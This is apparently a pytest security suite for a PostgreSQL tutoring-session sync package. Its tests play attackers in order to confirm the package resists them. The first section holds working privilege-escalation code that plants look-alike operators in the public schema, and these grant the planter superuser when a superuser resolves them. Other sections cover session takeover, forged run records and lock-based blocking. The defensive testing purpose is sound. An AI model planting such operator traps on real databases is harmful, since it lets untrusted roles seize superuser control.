"""Attacks on the package from roles that should not get anywhere.

Each test plays an attacker that an adversarial review found successful against revision 0008:
a role that plants look-alike operators in ``public`` and waits for a superuser, a writer of
purchases that takes over a tutoring session it does not own, a runner that calls internals or
forges run history, a reader of failure records who collects students' contact details, a role
with no grant that blocks every sync with an advisory lock.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import psycopg
import pytest
from alembic.script import ScriptDirectory
from psycopg.conninfo import make_conninfo

from factories import purchase, sessions
from session_sync import connection, migrate

ROOT = Path(__file__).resolve().parents[1]

# (left, right) type pairs for which a planted public.= (and friends) is a better match than
# anything in pg_catalog, or the same match; the list and a few more.
PAIRS = [("oid", "integer"), ("bigint", "integer"), ("integer", "bigint"), ("numeric", "integer"),
         ("uuid", "text"), ("text", "uuid"), ("jsonb", "text"), ("name", "text"), ("text", "name"),
         ("date", "timestamptz"), ("text", "text"), ("uuid", "uuid"), ("integer", "integer"),
         ("jsonb", "jsonb"), ("varchar", "text"), ("text", "varchar"), ("boolean", "boolean")]
OTHER_OPERATORS = [("<", "numeric", "integer"), (">", "numeric", "integer"), ("<=", "numeric", "integer"),
                   (">=", "numeric", "integer"), ("<>", "numeric", "integer"), ("<>", "text", "text"),
                   ("+", "bigint", "integer"), ("-", "integer", "integer"), ("/", "bigint", "integer"),
                   ("||", "jsonb", "jsonb"), ("->>", "jsonb", "text"), ("?", "jsonb", "text"),
                   ("@>", "jsonb", "jsonb"), ("~", "text", "text")]


def plant(conn: psycopg.Connection, planter: str) -> None:
    """As ``planter``: operators in public whose function makes ``planter`` a superuser when a
    superuser runs it (and records that it ran)."""
    conn.execute("CREATE TABLE public.planted_calls (op text, at timestamptz DEFAULT clock_timestamp())")
    conn.execute("GRANT INSERT ON public.planted_calls TO PUBLIC")
    operators = [("=", left, right) for left, right in PAIRS] + OTHER_OPERATORS
    for number, (op, left, right) in enumerate(operators):
        name = f"public.planted_{number}"
        result = {"+": left, "-": left, "/": left, "||": "jsonb", "->>": "text"}.get(op, "boolean")
        value = {"boolean": "false", "jsonb": "$1", "text": "NULL"}.get(result, "$1")
        conn.execute(f"""
            CREATE FUNCTION {name}({left}, {right}) RETURNS {result} LANGUAGE plpgsql AS $f$
            BEGIN
                INSERT INTO public.planted_calls (op) VALUES ('{op} ({left}, {right})');
                IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user)
                THEN
                    EXECUTE 'ALTER ROLE {planter} SUPERUSER';
                END IF;
                RETURN {value};
            END $f$""")
        conn.execute(f"CREATE OPERATOR public.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {name})")


@pytest.fixture
def planter(db) -> Iterator[str]:
    name = f"planter_{uuid.uuid4().hex[:10]}"
    db.execute(f"CREATE ROLE {name} NOLOGIN")
    db.execute(f"GRANT CREATE, USAGE ON SCHEMA public TO {name}")
    yield name
    db.execute(f"DROP OWNED BY {name}")
    db.execute(f"DROP ROLE {name}")


def is_superuser(db, role: str) -> bool:
    return db.value("SELECT rolsuper FROM pg_roles WHERE rolname = %s", role)


def as_role(db, role: str, **kwargs) -> psycopg.Connection:
    conn = db.connect(autocommit=True, **kwargs)
    conn.execute(f"SET ROLE {role}")
    return conn


def test_a_planted_operator_does_escalate_when_a_superuser_resolves_it(db, planter):
    """The attack works: the control for the test below (it can fail)."""
    with as_role(db, planter) as conn:
        plant(conn, planter)
    db.value("SELECT 1::oid = 1")  # a superuser, default search_path, an unqualified oid = integer
    assert is_superuser(db, planter)
    db.execute(f"ALTER ROLE {planter} NOSUPERUSER")


def cli(url: str, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "DATABASE_URL": url}
    return subprocess.run([sys.executable, "-m", "session_sync.cli", *args], env=env, capture_output=True,
                          text=True, timeout=120, cwd=ROOT)


def test_no_entry_point_resolves_a_planted_operator(db, planter):
    with as_role(db, planter) as conn:
        plant(conn, planter)
    good = purchase(db)
    sessions(db, good, 2, metadata={"isBookable": True})
    bad = purchase(db, student_location={"latitude": "12abc", "longitude": 7})
    sessions(db, bad, 1)
    waiting = purchase(db, trainer_id=None, status="WAITLISTED")
    waiting_sessions = sessions(db, waiting, 2)
    with db.connect(autocommit=True) as conn:  # a superuser on the default search_path, triggers on
        assert conn.execute("SHOW search_path").fetchone()[0] == '"$user", public'
        conn.execute("SELECT * FROM sync_all_sessions(p_dry_run => true)").fetchall()
        conn.execute("SELECT * FROM sync_all_sessions()").fetchall()
        conn.execute("SELECT * FROM sync_purchase_sessions(%s)", (good,)).fetchall()
        with pytest.raises(psycopg.Error):
            conn.execute("SELECT * FROM sync_purchase_sessions(%s)", (bad,))
        conn.execute("SELECT session_sync_enqueue()")
        conn.execute("SELECT session_sync_enqueue(%s)", ([good, bad],))
        conn.execute("CALL sync_all_sessions_batched(p_batch_size => 1)")
        conn.execute("CALL sync_all_sessions_batched()")
        for view in ("session_sync_pending", "session_sync_verify", "session_sync_open_failures",
                     "session_sync_session_state", "session_sync_expected", "session_sync_purchase_check",
                     "session_sync_queue", "session_sync_runs", "session_sync_failures"):
            conn.execute(f"SELECT * FROM {view}").fetchall()
        for pid in (good, bad, waiting, uuid.uuid4()):
            conn.execute("SELECT * FROM session_sync_diagnose(%s)", (pid,)).fetchall()
        conn.execute("SELECT * FROM session_sync_reasons()").fetchall()
        # The triggers, through ordinary platform writes.
        conn.execute("UPDATE course_purchases SET trainer_id = gen_random_uuid(), status = 'ASSIGNED' WHERE id = %s",
                     (waiting,))
        conn.execute("UPDATE purchase_sessions SET session_time = '11:00' WHERE id = %s", (waiting_sessions[0],))
        conn.execute("UPDATE tutoring_sessions SET scheduled_time = '12:00' WHERE id = %s", (waiting_sessions[1],))
        conn.execute("INSERT INTO trainer_allocations (student_id, trainer_id, course_id, requested_by, status) "
                     "SELECT gen_random_uuid(), trainer_id, course_id, gen_random_uuid(), 'approved' "
                     "FROM course_purchases WHERE id = %s", (good,))
        conn.execute("DELETE FROM tutoring_sessions WHERE id = %s", (waiting_sessions[1],))
        fresh = purchase(db)
        conn.execute("INSERT INTO purchase_sessions (purchase_id, booking_id, session_number, session_date, "
                     "session_time) SELECT id, booking_id, 1, '2026-05-01', '10:00' FROM course_purchases "
                     "WHERE id = %s", (fresh,))
        conn.execute("SET session_sync.enabled = off")
        conn.execute("UPDATE purchase_sessions SET session_time = '13:00' WHERE id = %s", (waiting_sessions[0],))
        conn.execute("RESET session_sync.enabled")
        conn.execute("TRUNCATE tutoring_sessions")
        conn.execute("SELECT * FROM sync_all_sessions()").fetchall()
    # Every CLI command, as a superuser whose role has the default search_path.
    for args in (["pending"], ["verify"], ["failures"], ["diagnose", str(bad)], ["sync", "--dry-run"],
                 ["sync", str(good)], ["sync", str(good), "--dry-run"], ["sync"], ["sync", "--full"],
                 ["migrate"], ["--json", "verify"]):
        result = cli(db.url, *args)
        assert result.returncode in (0, 1), (args, result.stderr)
    assert db.rows("SELECT op FROM planted_calls") == []
    assert not is_superuser(db, planter)
    # And the work was done: the planted operators changed no outcome.
    assert db.one("SELECT missing, drifted FROM session_sync_verify") == (1, 0)  # bad's session
    assert db.value("SELECT count(*) FROM tutoring_sessions") == 5


def test_migrating_a_database_where_operators_were_planted_escalates_nobody(empty_db):
    planter = f"planter_{uuid.uuid4().hex[:10]}"
    empty_db.execute(f"CREATE ROLE {planter} NOLOGIN")
    empty_db.execute(f"GRANT CREATE, USAGE ON SCHEMA public TO {planter}")
    try:
        with as_role(empty_db, planter) as conn:
            plant(conn, planter)
        migrate.upgrade(empty_db.url)
        pid = purchase(empty_db)
        sessions(empty_db, pid, 2)
        assert empty_db.dict("SELECT * FROM sync_all_sessions()")["sessions_created"] == 2
        # The views and SQL-standard helpers created during the migration bound pg_catalog's operators.
        empty_db.rows("SELECT * FROM session_sync_purchase_check")
        assert empty_db.value("SELECT session_sync.session_sync_location_problem('{\"latitude\": 91, \"longitude\": 1}')") \
            == "INVALID_COORDINATES"
        migrate.downgrade(empty_db.url, "0001_platform_baseline")  # uninstalled and installed again
        migrate.upgrade(empty_db.url)
        assert empty_db.rows("SELECT op FROM planted_calls") == []
        assert not is_superuser(empty_db, planter)
    finally:
        empty_db.execute(f"DROP OWNED BY {planter}")
        empty_db.execute(f"DROP ROLE {planter}")


# The type pairs of the catalog queries that drivers and libraries send when they connect, before
# anything of the package runs: psycopg's TypeInfo.fetch (SQLAlchemy's psycopg dialect looks hstore
# up on its first connection: ``FROM pg_type t WHERE t.oid = to_regtype($1)``, older psycopg
# ``t.oid = $1::regtype``), SQLAlchemy's reflection (Alembic's has_table: ``relname IN
# ($1::VARCHAR)``, ``relkind = ANY (ARRAY[$2::VARCHAR, ...])``, ``nspname = $7::VARCHAR``) and the
# command line's own (``pronamespace = 'public'::regnamespace``). pg_catalog has no operator for
# these exact pairs, so one planted in public is the better match for a caller whose search_path
# holds public.
CATALOG_PAIRS = [("oid", "regtype"), ("regtype", "oid"), ("oid", "regclass"), ("regclass", "oid"),
                 ("oid", "regproc"), ("regproc", "oid"), ("oid", "regnamespace"), ("regnamespace", "oid"),
                 ("oid", "regrole"), ("name", "varchar"), ("varchar", "name"), ('"char"', "varchar"),
                 ("text", "regtype")]


def plant_catalog_operators(conn: psycopg.Connection, planter: str) -> None:
    """As ``planter``: public.= for CATALOG_PAIRS, each giving the right answer (the driver works on)
    and leaving a mark no rollback removes (``nextval`` of the planter's sequence, granted to all);
    run by a superuser, it also makes ``planter`` a superuser (undone when the transaction is rolled
    back, as SQLAlchemy does after its first-connection queries: the mark stays)."""
    conn.execute("CREATE SEQUENCE public.planted_marks")
    conn.execute("GRANT USAGE, SELECT, UPDATE ON SEQUENCE public.planted_marks TO PUBLIC")
    for number, (left, right) in enumerate(CATALOG_PAIRS):
        as_oid = any(t.startswith("reg") or t == "oid" for t in (left, right)) and "text" not in (left, right)
        compare = ("$1::pg_catalog.oid OPERATOR(pg_catalog.=) $2::pg_catalog.oid" if as_oid else
                   "$1::pg_catalog.text OPERATOR(pg_catalog.=) $2::pg_catalog.text")
        conn.execute(f"""
            CREATE FUNCTION public.planted_catalog_{number}({left}, {right}) RETURNS boolean LANGUAGE plpgsql AS $f$
            BEGIN
                PERFORM pg_catalog.nextval('public.planted_marks');
                IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user)
                THEN
                    EXECUTE 'ALTER ROLE {planter} SUPERUSER';
                END IF;
                RETURN {compare};
            END $f$""")
        conn.execute(f"CREATE OPERATOR public.= (LEFTARG = {left}, RIGHTARG = {right}, "
                     f"FUNCTION = public.planted_catalog_{number})")


@contextmanager
def catalog_operators_planted(db) -> Iterator[str]:
    """A role with CREATE on public that planted CATALOG_PAIRS' operators in ``db``; yields its name."""
    name = f"planter_{uuid.uuid4().hex[:10]}"
    db.execute(f"CREATE ROLE {name} NOLOGIN")
    db.execute(f"GRANT CREATE, USAGE ON SCHEMA public TO {name}")
    try:
        with as_role(db, name) as conn:
            plant_catalog_operators(conn, name)
        # The trap is live: a superuser on the default search_path runs it with a driver's lookup,
        # and a rollback leaves the mark.
        with db.connect(autocommit=True) as conn:
            assert conn.execute("SHOW search_path").fetchone()[0] == '"$user", public'
            with conn.transaction(force_rollback=True):
                conn.execute("SELECT count(*) FROM pg_type t WHERE t.oid = to_regtype('hstore')")
        assert db.one("SELECT is_called FROM public.planted_marks") == (True,)
        db.execute("ALTER SEQUENCE public.planted_marks RESTART")
        yield name
    finally:
        db.execute(f"ALTER ROLE {name} NOSUPERUSER")
        db.execute(f"DROP OWNED BY {name}")
        db.execute(f"DROP ROLE {name}")


def assert_never_ran(db, planter: str, after: object) -> None:
    """The planted sequence was never advanced (its last_value and is_called as RESTART left them)."""
    assert db.one("SELECT last_value, is_called FROM public.planted_marks") == (1, False), after
    assert not is_superuser(db, planter), after


def command(name: str, url: str, *args: str) -> subprocess.CompletedProcess:
    """An installed command (``alembic``, ``session-sync``) run from the checkout, as a superuser whose
    role has the default search_path, with DATABASE_URL (and no PGOPTIONS)."""
    env = {key: value for key, value in os.environ.items() if key != "PGOPTIONS"}
    env["DATABASE_URL"] = url
    return subprocess.run([str(Path(sys.executable).parent / name), *args], env=env, capture_output=True,
                          text=True, timeout=300, cwd=ROOT)


@pytest.mark.parametrize("migrator", ["alembic upgrade head", "session-sync migrate", "migrate.upgrade"])
def test_migrating_a_fresh_database_runs_no_operator_planted_for_the_drivers_catalog_lookups(empty_db, migrator):
    """Issue 21 item 1: the server fixes the search_path when the connection starts, before the
    driver's first lookup (a statement after connecting comes too late)."""
    head = ScriptDirectory.from_config(migrate.config()).get_current_head()
    with catalog_operators_planted(empty_db) as planter:
        if migrator == "migrate.upgrade":
            migrate.upgrade(empty_db.url)
        else:
            name, *args = migrator.split()
            result = command(name, empty_db.url, *args)
            assert result.returncode == 0, result.stderr
        assert migrate.current(empty_db.url) == head
        assert_never_ran(empty_db, planter, migrator)


def test_no_entry_point_at_head_runs_an_operator_planted_for_the_drivers_catalog_lookups(db):
    head = ScriptDirectory.from_config(migrate.config()).get_current_head()
    with catalog_operators_planted(db) as planter:
        for name, *args in (["alembic", "upgrade", "head"], ["session-sync", "migrate"], ["alembic", "current"],
                            ["session-sync", "demo", "--purchases", "5", "--database-url", db.url],
                            ["session-sync", "verify"], ["session-sync", "--json", "health"],
                            ["session-sync", "pending"], ["session-sync", "failures"],
                            ["session-sync", "sync", "--dry-run"], ["session-sync", "sync", "--full"],
                            ["session-sync", "sync"], ["session-sync", "diagnose", str(uuid.uuid4())]):
            result = command(name, db.url, *args)
            assert result.returncode in (0, 1), (name, args, result.stderr)
            assert_never_ran(db, planter, [name, *args])
        assert migrate.current(db.url) == head
        assert_never_ran(db, planter, "migrate.current")
        migrate.downgrade(db.url, "-1")
        assert migrate.current(db.url) != head
        assert_never_ran(db, planter, "migrate.downgrade")
        migrate.upgrade(db.url)
        assert migrate.current(db.url) == head
        assert_never_ran(db, planter, "migrate.upgrade")


def test_the_search_path_fixed_at_connection_start_keeps_the_callers_options(db, monkeypatch):
    """The pin is added to the options of the URL, else of PGOPTIONS (README: PGOPTIONS='-c
    session_sync.lock_wait=30s'), never replacing them; a search_path among them is overridden."""
    shown = ("SELECT current_setting('search_path'), current_setting('session_sync.lock_wait', true), "
             "current_setting('statement_timeout')")
    theirs = "-c search_path=public -c session_sync.lock_wait=31s -c statement_timeout=4321"
    monkeypatch.delenv("PGOPTIONS", raising=False)
    with connection.connect(make_conninfo(db.url, options=theirs)) as conn:
        assert conn.execute(shown).fetchone() == ("pg_catalog,pg_temp", "31s", "4321ms")
    monkeypatch.setenv("PGOPTIONS", "-c session_sync.lock_wait=32s -c search_path=public")
    with connection.connect(db.url) as conn:
        assert conn.execute(shown).fetchone() == ("pg_catalog,pg_temp", "32s", "0")
    with connection.connect(make_conninfo(db.url, options=theirs)) as conn:  # libpq: the URL's, not PGOPTIONS
        assert conn.execute(shown).fetchone() == ("pg_catalog,pg_temp", "31s", "4321ms")
    engine = migrate.engine(db.url)  # session-sync migrate, session_sync.migrate
    try:
        with engine.connect() as conn:
            assert tuple(conn.exec_driver_sql(shown).one()) == ("pg_catalog,pg_temp", "32s", "0")
    finally:
        engine.dispose()
    # The alembic command from the checkout (env.py's own engine) keeps PGOPTIONS too: read-only, it
    # cannot step down.
    head = migrate.current(db.url)
    env = {**os.environ, "DATABASE_URL": db.url, "PGOPTIONS": "-c default_transaction_read_only=on"}
    result = subprocess.run([str(Path(sys.executable).parent / "alembic"), "downgrade", "-1"], env=env,
                            capture_output=True, text=True, timeout=300, cwd=ROOT)
    assert result.returncode != 0 and "read-only transaction" in result.stderr, result.stderr
    assert migrate.current(db.url) == head


# --- 2. a writer of purchases takes over a tutoring session it does not own -----------------

@pytest.fixture
def writer(db) -> Iterator[str]:
    """A role that may only insert purchases and purchase sessions (as a booking service might)."""
    name = f"writer_{uuid.uuid4().hex[:10]}"
    db.execute(f"CREATE ROLE {name} NOLOGIN")
    db.execute(f"GRANT USAGE ON SCHEMA public TO {name}")
    db.execute(f"GRANT INSERT ON course_purchases, purchase_sessions TO {name}")
    yield name
    db.execute(f"REVOKE ALL ON course_purchases, purchase_sessions FROM {name}")
    db.execute(f"REVOKE USAGE ON SCHEMA public FROM {name}")
    db.execute(f"DROP ROLE {name}")


def apps_session(db) -> uuid.UUID:
    """A tutoring session the apps created for another student: no purchaseId in its metadata."""
    allocation = db.value("INSERT INTO trainer_allocations (student_id, trainer_id, course_id, requested_by, status)"
                          " VALUES (gen_random_uuid(), gen_random_uuid(), gen_random_uuid(), gen_random_uuid(),"
                          " 'approved') RETURNING id")
    return db.value("""INSERT INTO tutoring_sessions (allocation_id, student_id, trainer_id, course_id,
                           scheduled_date, scheduled_time, status, student_home_location, metadata)
                       SELECT id, student_id, trainer_id, course_id, '2026-03-03', '18:00', 'scheduled',
                              '{"latitude": 1, "longitude": 2, "address": "elsewhere"}', '{"otpSentAt": "x"}'
                       FROM trainer_allocations WHERE id = %s RETURNING id""", allocation)


def tutoring_row(db, sid):
    return db.value("SELECT to_jsonb(t) - 'updated_at' FROM tutoring_sessions t WHERE id = %s", sid)


def insert_purchase_taking(conn: psycopg.Connection, target: uuid.UUID) -> uuid.UUID:
    pid, booking = uuid.uuid4(), uuid.uuid4()
    conn.execute("""INSERT INTO course_purchases (id, booking_id, course_id, class_type, total_sessions, delivery_mode,
                        start_date, preferred_time_slot, student_location, students, trainer_id, status)
                    VALUES (%s, %s, gen_random_uuid(), 'ONE_ON_ONE', 10, 'WEEKDAY_DAILY', '2026-01-05', '16:00',
                            '{"latitude": 12.5, "longitude": 77.5}', %s, gen_random_uuid(), 'ASSIGNED')""",
                 (pid, booking, json.dumps([{"id": str(uuid.uuid4())}])))
    conn.execute("""INSERT INTO purchase_sessions (id, purchase_id, booking_id, session_number, session_date, session_time)
                    VALUES (gen_random_uuid(), %s, %s, 1, '2026-01-05', '16:00'),
                           (%s, %s, %s, 2, '2026-01-06', '16:00')""", (pid, booking, target, pid, booking))
    return pid


def test_a_purchase_writer_cannot_take_over_an_apps_session_through_the_trigger(db, writer):
    target = apps_session(db)
    before = tutoring_row(db, target)
    with as_role(db, writer) as conn:
        pid = insert_purchase_taking(conn, target)
    assert tutoring_row(db, target) == before
    # All or nothing: the purchase's other session was not written either, and the conflict is recorded.
    assert db.value("SELECT count(*) FROM tutoring_sessions WHERE metadata->>'purchaseId' = %s", str(pid)) == 0
    assert db.rows("SELECT reason, source FROM session_sync_failures WHERE purchase_id = %s", pid) == [
        ("SESSION_CONFLICT", "trigger")]
    assert db.value("SELECT reason FROM session_sync_pending WHERE purchase_id = %s", pid) == "SESSION_CONFLICT"


@pytest.mark.parametrize("path", ["sync_purchase_sessions", "sync_all_sessions", "backfill"])
def test_no_path_takes_over_a_session_without_purchase_id(db, path):
    target = apps_session(db)
    before = tutoring_row(db, target)
    pid = insert_purchase_taking(db.conn, target)  # triggers off on this connection
    if path == "sync_purchase_sessions":
        with pytest.raises(psycopg.Error) as caught:
            db.rows("SELECT * FROM sync_purchase_sessions(%s)", pid)
        assert caught.value.sqlstate == "SS008"
    elif path == "sync_all_sessions":
        assert db.dict("SELECT * FROM sync_all_sessions()")["purchases_failed"] == 1
    else:
        with db.connect(autocommit=True) as conn:
            conn.execute("CALL sync_all_sessions_batched(p_quiet => true)")
    assert tutoring_row(db, target) == before
    assert db.value("SELECT count(*) FROM tutoring_sessions WHERE metadata->>'purchaseId' = %s", str(pid)) == 0


def test_sessions_the_platforms_own_sync_wrote_are_adopted(db):
    pid = purchase(db)
    [sid] = sessions(db, pid, 1)
    allocation = db.value("INSERT INTO trainer_allocations (student_id, trainer_id, course_id, requested_by, status)"
                          " VALUES (gen_random_uuid(), gen_random_uuid(), gen_random_uuid(), gen_random_uuid(),"
                          " 'approved') RETURNING id")
    db.execute("""INSERT INTO tutoring_sessions (id, allocation_id, student_id, trainer_id, scheduled_date,
                      scheduled_time, metadata)
                  SELECT %s, id, student_id, trainer_id, '2020-01-01', '08:00', jsonb_build_object('purchaseId', %s::text)
                  FROM trainer_allocations WHERE id = %s""", sid, str(pid), allocation)
    assert db.dict("SELECT * FROM sync_purchase_sessions(%s)", pid)["sessions_updated"] == 1
    assert db.value("SELECT scheduled_time FROM tutoring_sessions WHERE id = %s", sid) == "16:00"


# --- 3. the runner may run syncs and read, nothing more --------------------------------------

PUBLIC_API = {
    "sync_all_sessions(boolean,text)", "sync_purchase_sessions(uuid)",
    "sync_all_sessions_batched(integer,boolean,bigint)", "session_sync_diagnose(uuid)",
    "session_sync_enqueue(uuid[])", "session_sync_reasons()",
}
RUNNER_INTERNALS = {  # the procedure's steps, and the pure rules the views call
    "session_sync.session_sync_backfill_start(integer,boolean)", "session_sync.session_sync_backfill_step(bigint,boolean)",
    "session_sync.session_sync_reasons()", "session_sync.session_sync_uuid(text)",
    "session_sync.session_sync_coordinate(jsonb)", "session_sync.session_sync_location_problem(jsonb)",
    "session_sync.session_sync_home_location(jsonb)", "session_sync.session_sync_primary_student(jsonb)",
    "session_sync.session_sync_owner(jsonb)", "session_sync.session_sync_owned_by(jsonb,uuid)",
    "session_sync.session_sync_protected(text)",
    "session_sync.session_sync_eligible(uuid,text)", "session_sync.session_sync_allocation_usable(text)",
}


def test_public_holds_the_api_and_the_runner_may_execute_it_only(db):
    in_public = {r[0] for r in db.rows("""
        SELECT replace(p.oid::regprocedure::text, ' ', '') FROM pg_proc p
        WHERE p.pronamespace = 'public'::regnamespace
          AND (p.proname LIKE 'session\\_sync%%' OR p.proname LIKE 'sync\\_%%')""")}
    assert in_public == PUBLIC_API
    executable = {r[0] for r in db.rows("""
        SELECT replace(p.oid::regprocedure::text, ' ', '') FROM pg_proc p
        WHERE p.pronamespace IN ('public'::regnamespace, 'session_sync'::regnamespace)
          AND (p.proname LIKE 'session\\_sync%%' OR p.proname LIKE 'sync\\_%%')
          AND has_function_privilege('session_sync_runner', p.oid, 'EXECUTE')""")}
    assert executable == PUBLIC_API | {r.replace(" ", "") for r in RUNNER_INTERNALS}
    writable = db.rows("""SELECT table_name, privilege_type FROM information_schema.role_table_grants
                          WHERE grantee = 'session_sync_runner' AND privilege_type <> 'SELECT'""")
    assert writable == []
    assert not db.value("SELECT has_schema_privilege('session_sync_runner', 'session_sync', 'CREATE')")
    assert not db.value("SELECT has_schema_privilege('public', 'session_sync', 'USAGE')")


@pytest.fixture
def runner(db) -> Iterator[str]:
    name = f"runner_{uuid.uuid4().hex[:10]}"
    db.execute(f"CREATE ROLE {name} NOLOGIN IN ROLE session_sync_runner")
    db.execute(f"GRANT USAGE ON SCHEMA public TO {name}")
    yield name
    db.execute(f"REVOKE USAGE ON SCHEMA public FROM {name}")
    db.execute(f"DROP ROLE {name}")


@pytest.mark.parametrize("statement", [
    "SELECT * FROM session_sync.session_sync_write(ARRAY[gen_random_uuid()], NULL, 'forged')",
    "SELECT session_sync.session_sync_failure_message('NO_STUDENT', gen_random_uuid())",
    "SELECT set_config('session_sync.pending', gen_random_uuid()::text, true), session_sync.session_sync_flush()",
    "SELECT session_sync.session_sync_flush()",
    "SELECT session_sync.session_sync_raise('NO_STUDENT', gen_random_uuid())",
    "SELECT session_sync.session_sync_reap_backfills()",
    "INSERT INTO session_sync_runs (source) VALUES ('forged')",
    "UPDATE session_sync_runs SET purchases_synced = 999",
    "INSERT INTO session_sync_failures (purchase_id, reason, message, source) VALUES (gen_random_uuid(), 'x', 'x', 'x')",
    "SELECT 1 FROM session_sync_locks FOR UPDATE",
])
def test_runner_cannot_call_internals_or_forge_records(db, runner, statement):
    db.rows("SELECT * FROM sync_all_sessions()")
    with as_role(db, runner) as conn:
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            conn.execute(statement)
    assert db.value("SELECT count(*) FROM session_sync_runs WHERE source = 'forged' OR purchases_synced = 999") == 0


def test_runner_cannot_step_a_run_it_did_not_start(db, runner):
    sessions(db, purchase(db), 1)
    with db.connect(autocommit=True) as owner:
        run_id = owner.execute("SELECT session_sync.session_sync_backfill_start(10, true)").fetchone()[0]
        with as_role(db, runner) as conn:
            with pytest.raises(psycopg.Error) as caught:
                conn.execute("SELECT session_sync.session_sync_backfill_step(%s, true)", (run_id,))
            assert caught.value.sqlstate == "55000"
    assert db.value("SELECT count(*) FROM tutoring_sessions") == 0


# --- 4. no student contact data in anything the runner reads ---------------------------------

CONTACT = {"name": "Zelda Quixote-Runner", "email": "zelda.q@mailbox.example", "phone": "+91 98765 43210",
           "address": "42 Secret Garden Lane"}


# test_no_contact_details_in_anything_the_runner_may_read: superseded by tests/test_privacy.py,
# which scans every relation and routine the runner may read or call, not a fixed list.


# --- 5. locks no other role can hold, and locks that end with their run ----------------------

def test_a_role_without_grants_cannot_delay_a_sync(db):
    stranger = f"stranger_{uuid.uuid4().hex[:10]}"
    db.execute(f"CREATE ROLE {stranger} NOLOGIN")
    try:
        sessions(db, purchase(db), 2)
        with as_role(db, stranger) as conn:
            # The advisory keys that revision 0008 used, taken by a role with no grant at all.
            conn.execute("SELECT pg_advisory_lock(5417002, 0), pg_advisory_lock(5417003, 0)")
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                conn.execute("SELECT 1 FROM public.session_sync_locks FOR UPDATE")
            with db.connect(autocommit=True, options="-c lock_timeout=3s") as syncing:
                assert syncing.execute("SELECT sessions_created FROM sync_all_sessions()").fetchone()[0] == 2
                syncing.execute("CALL sync_all_sessions_batched(p_quiet => true)")
    finally:
        db.execute(f"DROP ROLE {stranger}")


def test_backfill_cut_off_by_statement_timeout_does_not_block_the_next(db):
    for _ in range(3):
        sessions(db, purchase(db), 1)
    with db.connect(autocommit=True) as blocker, db.connect(autocommit=True) as pooled:
        blocker.execute("BEGIN")
        blocker.execute("SELECT 1 FROM session_sync_locks WHERE name = 'run' FOR UPDATE")
        pooled.execute("SET statement_timeout = '300ms'")
        with pytest.raises(psycopg.errors.QueryCanceled):
            pooled.execute("CALL sync_all_sessions_batched(p_quiet => true)")
        blocker.execute("COMMIT")
        # The pooled connection stays open and idle; the next backfill, anywhere, starts at once.
        with db.connect(autocommit=True, options="-c lock_timeout=3s") as other:
            other.execute("CALL sync_all_sessions_batched(p_quiet => true)")
        assert db.rows("SELECT source, outcome, finished_at IS NOT NULL FROM session_sync_runs ORDER BY run_id") == [
            ("batched", "interrupted", True), ("batched", "finished", True)]
    assert db.value("SELECT count(*) FROM tutoring_sessions") == 3


def test_a_start_left_open_in_a_transaction_refuses_at_once_instead_of_blocking(db):
    sessions(db, purchase(db), 1)
    with db.connect() as idle, db.connect(autocommit=True, options="-c lock_timeout=5s") as other:
        idle.execute("SELECT session_sync.session_sync_backfill_start(10, true)")  # and keeps its transaction open
        with pytest.raises(psycopg.Error) as caught:
            other.execute("CALL sync_all_sessions_batched(p_quiet => true)")
        assert caught.value.sqlstate == "55P03" and "starting" in caught.value.diag.message_primary
        idle.rollback()
        other.execute("CALL sync_all_sessions_batched(p_quiet => true)")
    assert db.value("SELECT count(*) FROM tutoring_sessions") == 1


def test_a_cut_off_backfill_whose_connection_runs_something_else_does_not_block(db):
    sessions(db, purchase(db), 1)
    with db.connect(autocommit=True) as blocker, db.connect(autocommit=True) as pooled, \
            db.connect(autocommit=True) as other:
        blocker.execute("BEGIN")
        blocker.execute("SELECT 1 FROM session_sync_locks WHERE name = 'run' FOR UPDATE")
        pooled.execute("SET statement_timeout = '300ms'")
        with pytest.raises(psycopg.errors.QueryCanceled):
            pooled.execute("CALL sync_all_sessions_batched(p_quiet => true)")
        blocker.execute("COMMIT")
        pooled.execute("SET statement_timeout = 0")
        # The pooled connection now runs an unrelated long statement: that is not a backfill.
        worker = threading.Thread(target=lambda: pooled.execute("SELECT pg_sleep(3)"))
        worker.start()
        time.sleep(0.3)
        other.execute("CALL sync_all_sessions_batched(p_quiet => true)")
        worker.join(10)
    assert db.rows("SELECT outcome FROM session_sync_runs ORDER BY run_id") == [("interrupted",), ("finished",)]


def test_every_positive_batch_size_works(db):
    sessions(db, purchase(db), 2)
    with db.connect(autocommit=True) as conn:
        run_id = conn.execute("CALL sync_all_sessions_batched(p_batch_size => 2147483647, p_quiet => true)"
                              ).fetchone()[0]
        conn.execute("CALL sync_all_sessions_batched(p_batch_size => 2147483647, p_quiet => true)")
    assert db.dict("SELECT * FROM session_sync_runs WHERE run_id = %s", run_id)["sessions_created"] == 2


# --- 6. the baseline's downgrade locks before it looks ----------------------------------------

def test_baseline_downgrade_never_drops_a_row_committed_while_it_runs(empty_db):
    migrate.upgrade(empty_db.url)
    migrate.downgrade(empty_db.url, "0001_platform_baseline")
    with empty_db.connect() as writer:
        writer.execute("INSERT INTO purchase_sessions (purchase_id, booking_id, session_number, session_date, "
                       "session_time) VALUES (gen_random_uuid(), gen_random_uuid(), 1, '2026-01-01', '10:00')")
        done = threading.Event()
        errors: list[BaseException] = []

        def downgrade() -> None:
            try:
                migrate.downgrade(empty_db.url, "base")
            except BaseException as error:  # noqa: BLE001 - reported below
                errors.append(error)
            done.set()

        worker = threading.Thread(target=downgrade)
        worker.start()
        # Wait until the downgrade waits on the writer's lock, then commit the row.
        import time
        deadline = time.monotonic() + 20
        while not empty_db.value("SELECT count(*) FROM pg_locks WHERE NOT granted AND relation = "
                                 "'purchase_sessions'::regclass"):
            assert time.monotonic() < deadline and not done.is_set(), errors
            time.sleep(0.05)
        writer.commit()
        worker.join(60)
    assert not errors, errors
    assert empty_db.value("SELECT count(*) FROM purchase_sessions") == 1
